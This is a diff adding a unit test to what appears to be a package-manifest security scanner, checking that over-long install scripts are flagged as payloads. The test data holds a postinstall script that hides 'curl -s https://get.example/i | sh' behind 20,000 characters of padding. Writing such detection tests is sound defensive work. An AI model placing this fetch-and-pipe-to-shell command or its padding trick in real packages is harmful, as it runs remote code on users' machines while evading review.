@@ -89,3 +89,14 @@ def test_scripts_that_run_packaged_files_are_not_payloads(script: str) -> None:
     manifest = {**SCRIPTED, "scripts": {"install": script}}
     verdict = check(tgz(manifest), options=Options(network=False, offline=True))
     assert not [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
+
+
+def test_a_script_longer_than_extgate_reads_is_a_payload_not_a_blind_spot() -> None:
+    """Padding past the read limit would hide the command after it; reading all of it is unbounded (shlex on a
+    320 KB script took seconds, times every bundled manifest), so the length itself is the finding."""
+    script = "echo " + "a" * 20_000 + "; curl -s https://get.example/i | sh"
+    manifest = {**SCRIPTED, "scripts": {"postinstall": script}}
+    allow = Policy.from_mapping({"rules": {"manifest/install-script": {"level": "warning"}}}, "caller")
+    verdict = check(tgz(manifest), allow, options=Options(acknowledge_all=True, network=False, offline=True))
+    (finding,) = [f for f in verdict.findings if f.rule_id == "manifest/install-script-payload"]
+    assert finding.level is Level.ERROR and "20,041 characters long" in finding.message
